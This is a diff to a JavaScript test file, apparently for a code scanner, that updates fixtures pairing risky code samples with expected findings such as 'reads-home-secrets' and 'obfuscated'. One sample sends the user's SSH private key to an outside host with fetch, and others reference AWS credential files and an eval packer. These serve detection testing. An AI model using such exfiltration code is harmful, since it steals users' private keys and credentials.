@@ -42,7 +42,7 @@ describe('code', () => {
       `import fs from 'fs'; fetch('https://x.io', { body: fs.readFileSync(home + '/.ssh/id_rsa') })`,
       'high reads-home-secrets',
     ],
-    ['keys in a template', 'const a = `${home}/.aws/credentials`', 'medium reads-home-secrets'],
+    ['keys in a template', `const a = \`\${home}/.aws/credentials\``, 'medium reads-home-secrets'],
     ['a packer', `eval(function(p,a,c,k,e,d){return p}('a',1,1,[],0,{}))`, 'high obfuscated'],
     [
       'an obfuscator',
